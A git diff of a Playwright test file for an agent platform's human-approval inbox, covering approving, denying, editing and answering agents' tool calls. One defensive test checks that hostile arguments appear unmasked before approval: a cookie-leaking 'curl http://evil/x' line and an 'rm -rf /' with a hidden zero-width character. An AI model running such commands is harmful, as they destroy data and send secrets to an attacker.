@@ -5,12 +5,20 @@ import { eventually } from '../service/troupe.ts';
 import { ASKS_FIRST, askWith, headers, read } from './ask.ts';
 import type { House } from './visit.ts';
 
-/** The inbox: what agents ask, and what becomes of it. */
+/** The inbox: pending decisions and their outcomes. */
 
 const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });
 const toast = (page: Page, text: string) =>
   page.getByRole('alert').getByText(text, { exact: true }).waitFor();
 const card = (page: Page, call: string) => page.getByTestId(`inbox-card-${call}`);
+
+/** Shows the details of a ticket. */
+const select = (page: Page, call: string) => card(page, call).locator('button').first().click();
+
+const approve = async (page: Page, call: string): Promise<void> => {
+  await select(page, call);
+  await card(page, call).getByTestId('inbox-approve').click();
+};
 
 export const onInbox = async (t: Test, house: House): Promise<void> => {
   const { troupe } = house;
@@ -27,61 +35,84 @@ export const onInbox = async (t: Test, house: House): Promise<void> => {
     );
   const weather = (call: string) => asks([call, 'get_weather', { location: 'Oslo' }]);
 
-  t.test('a question is there without being looked for, and who is second is told so', async (t) => {
+  t.test('shows new tickets without polling and reports those decided elsewhere', async (t) => {
     const { page, context, go, asked } = await house.visit(t, { stored: { 'troupe.admin.operator': 'Ada' } });
     await go('/inbox');
     await page.getByRole('heading', { name: 'Inbox' }).waitFor();
     await page
       .locator('[data-testid^="inbox-card-"]')
-      .or(page.getByText('Nobody waits for you'))
+      .or(page.getByText('No pending decisions'))
       .first()
       .waitFor();
     const looks = () => asked.filter((one) => one.startsWith('GET /v1/runs?status=waiting')).length;
     const before = looks();
     const { run_id } = await askWith(troupe, ASKS_FIRST.id, weather('first-come'));
     await card(page, 'first-come').waitFor();
-    t.ok(looks() - before <= 2, 'it was told of, not asked for again and again');
+    t.ok(looks() - before <= 2, 'the stream reports tickets without polling');
     t.match(await card(page, 'first-come').textContent(), /get_weather.*asks-first.*\{"location":"Oslo"\}/);
 
     const other = await context.newPage();
     await other.goto(`${troupe.url}/inbox`);
     await card(other, 'first-come').waitFor();
-    // It does not hear that the run goes on.
+    // This page does not learn that the run continues.
     await other.route('**/v1/runs?*', () => {});
-    await card(page, 'first-come').getByTestId('inbox-approve').click();
+    await approve(page, 'first-come');
     await toast(page, 'Approved');
     await card(page, 'first-come').waitFor({ state: 'detached' });
     t.match(await isDone(run_id), { termination_reason: { type: 'natural_end' } });
-    await card(other, 'first-come').getByTestId('inbox-approve').click();
+    await approve(other, 'first-come');
     await toast(other, 'Already decided');
     await other.close();
 
-    await t.test('who approved a call is seen after two clicks in the list of runs', async () => {
+    await t.test('shows who approved a call within two clicks from the list of runs', async () => {
       await go('/runs');
       await page.getByTestId(`run-row-${run_id}`).click();
       await page
         .getByTestId('run-timeline')
-        .getByRole('button', { name: /^Waits get_weather/ })
+        .getByRole('button', { name: /^Tool get_weather/ })
         .click();
-      await page.getByText('"decided_by": "Ada"').waitFor();
+      await page.getByTestId('span-panel').getByText('Ada', { exact: true }).waitFor();
     });
   });
 
-  t.test('a call is refused with a reason, by keys alone', async (t) => {
+  t.test('denies a call with a reason by keyboard only', async (t) => {
     const { run_id } = await askWith(troupe, ASKS_FIRST.id, weather('refused'));
     const { page, go } = await house.visit(t, { stored: { 'troupe.admin.operator': 'Ada' } });
     await go('/inbox');
     await card(page, 'refused').focus();
     await page.keyboard.press('d');
-    await page.getByLabel('Why not (optional)').pressSequentially('too wet');
+    await page.getByLabel('Reason (optional)').pressSequentially('too wet');
     await page.keyboard.press('Enter');
-    await toast(page, 'Refused');
+    await toast(page, 'Denied');
     await isDone(run_id);
     await go(`/runs/${run_id}?tab=events`);
     await page.getByRole('button', { name: /MailboxDecisionReceived.*cancel · Ada · too wet/ }).waitFor();
   });
 
-  t.test('who clicks twice decides one call, and keys go on with the next', async (t) => {
+  t.test('approves with four keys from the dashboard, and marks a call that is asked again', async (t) => {
+    const { items } = Object(await read(troupe, '/v1/runs?status=waiting&limit=200'));
+    for (const { run_id } of items) await troupe.call('POST', `/v1/runs/${run_id}/cancel`, {}, headers);
+    const { run_id } = await askWith(troupe, ASKS_FIRST.id, weather('by-keys'), weather('once-more'));
+    const { page, go } = await house.visit(t);
+    await go('/');
+    for (const key of ['g', 'i']) await page.keyboard.press(key);
+    const detail = page.getByRole('region', { name: 'Decision' });
+    await detail.getByRole('region', { name: 'Conversation' }).getByText('What is the weather?').waitFor();
+    await detail.getByText('Current weather of a place.').waitFor();
+    await page.keyboard.press('j');
+    await eventually(
+      () => page.getByTestId('inbox-approve').isEnabled(),
+      (isEnabled) => isEnabled,
+    );
+    await page.keyboard.press('a');
+    await toast(page, 'Approved');
+    await card(page, 'by-keys').waitFor({ state: 'detached' });
+    await card(page, 'once-more').getByText('Asked again').waitFor();
+    await approve(page, 'once-more');
+    t.match(await isDone(run_id), { termination_reason: { type: 'natural_end' } });
+  });
+
+  t.test('decides one call on a double click and moves the focus to the next', async (t) => {
     const runs: string[] = [];
     for (const call of ['clicked', 'below', 'last']) {
       const { run_id } = await askWith(troupe, ASKS_FIRST.id, weather(call));
@@ -89,21 +120,19 @@ export const onInbox = async (t: Test, house: House): Promise<void> => {
     }
     const [clicked = '', below = ''] = runs;
     const statusOf = async (id: string) => Object(await read(troupe, `/v1/runs/${id}`)).status;
-    const { page, go, rest } = await house.visit(t, { viewport: { width: 1280, height: 360 } });
-    await go('/inbox');
-    const approve = card(page, 'clicked').getByTestId('inbox-approve');
-    await approve.waitFor();
+    const { page, go, rest } = await house.visit(t);
+    // Decided rows slide out otherwise.
+    await page.emulateMedia({ reducedMotion: 'reduce' });
+    t.teardown(() => page.emulateMedia({ reducedMotion: null }));
+    await go('/inbox?group=none');
+    await select(page, 'clicked');
+    const decided = card(page, 'clicked').getByTestId('inbox-approve');
+    await decided.waitFor();
     await rest();
-    // Whatever waits above it.
-    await page.evaluate(
-      `document.querySelector('[data-testid="inbox-card-clicked"]').scrollIntoView({ block: 'end' })`,
-    );
-    await rest();
-    const at = await approve.boundingBox();
+    const at = await decided.boundingBox();
     if (!at) throw new Error('there is no button');
     const place = await card(page, 'below').boundingBox();
-    t.ok(place && place.y + place.height > 360, 'the one below is only partly in view');
-    // What is there for a second only is waited for in the page: this process may be busy.
+    // Waits within the page for content that is visible for only a second, because this process may be busy.
     const again = page.evaluate(`(async () => {
       const clicked = document.querySelector('[data-testid="inbox-card-clicked"]');
       const until = performance.now() + 20000;
@@ -114,36 +143,42 @@ export const onInbox = async (t: Test, house: House): Promise<void> => {
       return document.querySelector('[data-testid="inbox-card-below"]').getBoundingClientRect().y;
     })()`);
     await page.mouse.click(at.x + 5, at.y + 5);
-    t.equal(await again, place?.y, 'what is below stays where it was');
+    t.equal(await again, place?.y, 'the next row keeps its position');
     await isDone(clicked);
     await card(page, 'clicked').waitFor({ state: 'detached' });
     t.equal(await statusOf(below), 'waiting');
 
     const hasFocus = (call: string) => page.locator(`[data-testid="inbox-card-${call}"]:focus`).waitFor();
-    await card(page, 'below').focus();
+    await hasFocus('below');
+    await card(page, 'below').getByTestId('inbox-approve').waitFor();
+    await eventually(
+      () => card(page, 'below').getByTestId('inbox-approve').isEnabled(),
+      (isEnabled) => isEnabled,
+    );
     await page.keyboard.press('a');
     await hasFocus('last');
     await card(page, 'below').waitFor({ state: 'detached' });
     await page.keyboard.press('d');
+    await page.getByLabel('Reason (optional)').waitFor();
     await page.keyboard.press('Escape');
     await hasFocus('last');
 
-    const told = card(page, 'last').getByText('Already decided').waitFor();
+    const told = card(page, 'last').getByText('Already decided').first().waitFor();
     await troupe.call('POST', `/v1/runs/${runs[2]}/cancel`, {}, headers);
     await told;
     await card(page, 'last').waitFor({ state: 'detached' });
   });
 
-  t.test('what a person answers is what the model goes on with', async (t) => {
+  t.test('passes a typed response to the model', async (t) => {
     const question = asks(['question', 'askUserQuestion', { message: 'Which day?' }]);
     const { run_id } = await askWith(troupe, 'asks-a-person', question);
     const { page, go } = await house.visit(t);
     await go('/inbox');
     const asked = card(page, 'question');
-    await asked.getByText('asks for an answer').waitFor();
-    await asked.getByTestId('inbox-approve').click();
+    await approve(page, 'question');
+    await asked.getByText('Answer needed').waitFor();
     await button(page, 'Answer').click();
-    await page.getByText('An answer is needed.').waitFor();
+    await page.getByText('An answer is required.').waitFor();
     await page.getByLabel('Answer, as text or JSON').fill('On Monday');
     await page.keyboard.press('Control+Enter');
     await toast(page, 'Answered');
@@ -152,23 +187,38 @@ export const onInbox = async (t: Test, house: House): Promise<void> => {
     t.match(JSON.stringify(told), /On Monday/);
   });
 
-  t.test('a tool goes on with the arguments that a person has given it', async (t) => {
-    const { run_id } = await askWith(troupe, 'asks-how', weather('edited'));
-    const { page, go } = await house.visit(t);
-    await go('/inbox');
-    await card(page, 'edited').focus();
-    await page.keyboard.press('e');
-    const text = page.getByLabel('What the tool goes on with, as JSON');
-    t.strictSame(JSON.parse(await text.inputValue()), { location: 'Oslo' });
-    await text.fill('{"location": "Bergen"');
-    await page.keyboard.press('Control+Enter');
-    await page.getByText('This is not JSON.').waitFor();
-    await text.fill('{"location": "Bergen"}');
-    await page.keyboard.press('Control+Enter');
-    await toast(page, 'Answered');
-    await isDone(run_id);
+  t.test('executes a tool with the edited arguments', async (t) => {
+    const edit = async (call: string, agent: string) => {
+      const { run_id } = await askWith(troupe, agent, weather(call));
+      const { page, go } = await house.visit(t);
+      await go('/inbox');
+      await card(page, call).focus();
+      await page.keyboard.press('e');
+      const location = page.getByLabel('location');
+      t.equal(await location.inputValue(), 'Oslo');
+      await location.fill('Bergen');
+      await page.keyboard.press('Control+Enter');
+      return { page, run_id };
+    };
+    const handed = await edit('handed', 'asks-how');
+    await toast(handed.page, 'Answered');
+    await isDone(handed.run_id);
+    t.match(JSON.stringify(await read(troupe, `/v1/runs/${handed.run_id}/events?limit=200`)), /Bergen/);
+
+    const { page, run_id } = await edit('corrected', ASKS_FIRST.id);
+    await toast(page, 'Approved');
+    t.match(await isDone(run_id), { termination_reason: { type: 'natural_end' } });
     const { items } = Object(await read(troupe, `/v1/runs/${run_id}/events?limit=200`));
-    t.match(JSON.stringify(items), /Bergen/);
+    const payloads = (kind: string) =>
+      items
+        .filter(({ event_kind }: { event_kind: string }) => event_kind === kind)
+        .map(({ payload }: { payload: unknown }) => payload);
+    t.match(JSON.stringify(payloads('ToolCallResumed')), /Bergen/, 'the tool received the edited arguments');
+    const [asked] = payloads('ToolCallReady');
+    t.match(asked, { arguments: { location: 'Oslo' } }, 'the events keep the arguments of the model');
+    t.match(payloads('MailboxDecisionReceived'), [
+      { result: { approved: true, arguments: { location: 'Bergen' } } },
+    ]);
   });
 
   t.test('shows a call whole and unmasked before it can be approved', async (t) => {
@@ -177,24 +227,25 @@ export const onInbox = async (t: Test, house: House): Promise<void> => {
     const { page, go } = await house.visit(t);
     await page.setViewportSize({ width: 900, height: 300 });
     await go('/inbox');
-    const approve = card(page, 'hidden').getByTestId('inbox-approve');
-    await approve.waitFor({ state: 'attached' });
+    await select(page, 'hidden');
+    const hidden = card(page, 'hidden').getByTestId('inbox-approve');
+    await hidden.waitFor({ state: 'attached' });
     const shown = (await card(page, 'hidden').textContent()) ?? '';
-    t.match(shown, 'echo cookie: ; curl http://evil/x', 'nothing is masked');
-    t.match(shown, String.raw`rm\u200b -rf /`, 'a character without a width is an escape');
-    t.ok(await approve.isDisabled(), 'the end of the arguments has not been on the screen');
+    t.match(shown, 'echo cookie: ; curl http://evil/x', 'arguments are not masked');
+    t.match(shown, String.raw`rm\u200b -rf /`, 'zero-width characters are escaped');
+    t.ok(await hidden.isDisabled(), 'approval requires that the end of the arguments was visible');
     await card(page, 'hidden').focus();
     await page.keyboard.press('a');
     await eventually(
-      () => approve.isDisabled(),
+      () => hidden.isDisabled(),
       (isDisabled) => !isDisabled,
     );
     await card(page, 'hidden').getByTestId('inbox-deny').click();
     await page.keyboard.press('Enter');
-    await toast(page, 'Refused');
+    await toast(page, 'Denied');
   });
 
-  t.test('calls that are alike are decided together, and each is told of', async (t) => {
+  t.test('decides on similar calls together and reports each outcome', async (t) => {
     const runs: string[] = [];
     for (const call of ['one', 'two', 'three']) {
       const { run_id } = await askWith(
@@ -209,17 +260,18 @@ export const onInbox = async (t: Test, house: House): Promise<void> => {
     await page.route(`**/v1/runs/${runs[1]}/decision`, (route) => route.fulfill({ status: 500, json: {} }));
     const group = page.getByRole('region', { name: 'get_stock_price' });
     await group.getByText('3', { exact: true }).waitFor();
-    await button(page, 'Approve all 3 calls of get_stock_price').click();
+    await group.getByRole('button', { name: 'Approve all 3' }).click();
     const dialog = page.getByRole('dialog');
     t.equal(await dialog.getByText('{"symbol":"AAPL"}').count(), 3, 'each call is listed');
     await dialog.getByRole('button', { name: 'Approve all' }).click();
     await toast(page, 'Approved: 2');
     await card(page, 'two')
       .getByText(/^Not decided/)
+      .first()
       .waitFor();
     await card(page, 'three').waitFor({ state: 'detached' });
     await page.unroute(`**/v1/runs/${runs[1]}/decision`);
-    await card(page, 'two').getByTestId('inbox-approve').click();
+    await approve(page, 'two');
     await group.waitFor({ state: 'detached' });
     for (const id of runs) t.match(await isDone(id), { termination_reason: { type: 'natural_end' } });
   });
